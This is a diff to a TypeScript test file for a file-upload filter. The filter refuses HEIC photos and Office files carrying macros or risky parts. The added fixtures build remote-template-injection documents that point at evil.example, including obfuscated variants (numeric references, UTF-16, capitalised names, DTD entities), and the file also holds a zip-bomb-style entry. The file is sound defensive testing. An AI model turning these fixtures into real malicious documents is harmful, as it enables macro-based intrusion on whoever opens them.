@@ -80,8 +80,14 @@ test.each([
     expect(await taken('foto.png', bytes)).toMatchObject({ name: 'foto.png.txt', mediaType: 'text/plain' });
 });
 
+test.each(['heic', 'heix', 'mif1'])(
+  'a HEIC photo (%s) is not kept, because where it was taken stays in it',
+  async (brand) => {
+    expect(await refused('IMG_1.jpg', box(brand))).toBe('heic');
+  }
+);
+
 test.each<[string, Buffer, string]>([
-  ['IMG_1.heic', box('heic'), 'image/heic'],
   ['rekaman.mp4', box('isom'), 'video/mp4'],
   ['rekaman.mov', box('qt  '), 'video/quicktime'],
   ['suara.m4a', box('M4A '), 'audio/mp4'],
@@ -111,6 +117,12 @@ test('a workbook of the site’s own making and a plain letter are taken as they
   expect(await taken('surat.docx', wordFile())).toMatchObject({ name: 'surat.docx' });
 });
 
+const relations = (type: string, mode: string) =>
+  `<Relationships><Relationship ${mode} Target="http://evil.example/a>b.dotm" Type="http://schemas.example/${type}"/></Relationships>`;
+const settingsRelations = (content: string | Buffer, name = 'word/_rels/settings.xml.rels') =>
+  wordFile([{ name, content }]);
+const external = 'TargetMode = "External"';
+
 const macroWord = 'application/vnd.ms-word.document.macroEnabled.main+xml';
 const template =
   '<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>';
@@ -120,7 +132,13 @@ test.each<[string, Buffer, string]>([
   ['a packed object', wordFile([{ name: 'word/embeddings/oleObject1.bin', content: 'x' }]), 'macros'],
   ['Excel 4 macros', wordFile([{ name: 'xl/macrosheets/sheet1.xml', content: 'x' }]), 'macros'],
   ['the type of a macro file', wordFile([], macroWord), 'macros'],
-  ['a template from elsewhere', wordFile([{ name: 'word/_rels/settings.xml.rels', content: template }]), 'macros'],
+  ['a template from elsewhere', settingsRelations(template), 'macros'],
+  ['one whose address holds a bracket', settingsRelations(relations('attachedTemplate', external)), 'macros'],
+  ['one in a part named in capitals', settingsRelations(template, 'word/_rels/SETTINGS.XML.RELS'), 'macros'],
+  ['one spelt in numbers', settingsRelations(relations('attached&#x54;emplate', external)), 'macros'],
+  ['one in wide characters', settingsRelations(Buffer.from(`\ufeff${template}`, 'utf16le')), 'macros'],
+  ['one behind an entity', settingsRelations(`<!DOCTYPE r [<!ENTITY t "x">]>${relations('t', external)}`), 'archive'],
+  ['a link to a website', settingsRelations(relations('hyperlink', external)), 'taken'],
   ['printer settings', wordFile([{ name: 'xl/printerSettings/printerSettings1.bin', content: 'x' }]), 'taken'],
   ['an entry that unpacks 1,000-fold', wordFile([{ name: 'word/a.xml', content: Buffer.alloc(5_000_000) }]), 'archive'],
   [
